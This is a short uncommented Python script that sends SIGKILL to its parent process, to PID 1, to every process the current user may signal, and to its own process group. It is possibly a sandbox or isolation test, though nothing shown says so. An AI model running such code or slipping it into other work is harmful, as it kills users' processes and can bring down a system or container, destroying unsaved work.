import os
import signal
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)  # everything this uid may signal
except OSError:
    pass
os.killpg(0, signal.SIGKILL)
